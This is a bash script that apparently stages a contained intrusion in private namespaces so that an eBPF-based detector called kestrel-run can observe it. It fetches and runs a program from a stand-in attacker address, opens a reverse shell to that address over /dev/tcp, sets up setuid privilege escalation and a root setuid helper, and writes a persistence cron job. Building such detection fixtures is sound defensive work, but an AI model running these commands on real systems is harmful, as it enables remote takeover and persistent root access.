#!/bin/bash
# An intrusion in miniature for `kestrel-run --ebpf` to see: a program is fetched and run, a shell calls out, an account makes itself
# root, a program is made setuid, and cron is told to come back.
#
# It runs as root in namespaces of its own. Its network is a loopback device that has the attacker's address too, and its
# /etc/cron.d is a folder in memory: the machine's own are not touched, and nothing is left when it ends.
set -u
PATH="$PATH:/usr/sbin:/sbin"
for tool in unshare ip setpriv perl; do
  command -v "$tool" >/dev/null || { echo "attack: there is no $tool here" >&2; exit 1; }
done
command -v curl >/dev/null || command -v wget >/dev/null || { echo "attack: there is neither curl nor wget here" >&2; exit 1; }
here="$(cd "$(dirname "$0")" && pwd)"
[ "${1-}" = inside ] || exec unshare --mount --net "$here/attack.sh" inside

attacker=203.0.113.7
{ ip link set lo up && ip addr add "$attacker/32" dev lo; } || exit 1
mount --make-rprivate /
[ ! -d /etc/cron.d ] || mount -t tmpfs attack /etc/cron.d || exit 1
folder="$(mktemp -d /tmp/kestrel-attack.XXXXXX)"
cd "$folder" || exit 1
"${NODE:-node}" "$here/attacker.mjs" "$attacker" "$folder/ready" &
server=$!
trap 'kill "$server" 2>/dev/null; cd /; rm -rf "$folder"' EXIT
for _ in $(seq 300); do [ -e ready ] && break; sleep 0.1; done

echo "attack: fetches a program, and runs it"
if command -v curl >/dev/null; then
  curl -s -o "$folder/update" "http://$attacker:8080/update"
else
  wget -q -O "$folder/update" "http://$attacker:8080/update"
fi
chmod +x "$folder/update"
"$folder/update"

echo "attack: opens a shell for somebody elsewhere"
bash -c "bash --norc -i >& /dev/tcp/$attacker/4444 0>&1"

echo "attack: makes itself root"
setpriv --reuid=65534 --regid=65534 --clear-groups --inh-caps=+setuid --ambient-caps=+setuid perl -e '$< = $> = 0;'

echo "attack: keeps a program that runs as root"
cp /bin/true "$folder/helper"
chmod u+s "$folder/helper"

if [ ! -d /etc/cron.d ]; then
  echo "attack: there is no /etc/cron.d to come back with"
  exit
fi
echo "attack: comes back with cron"
echo "* * * * * root $folder/update" >/etc/cron.d/update
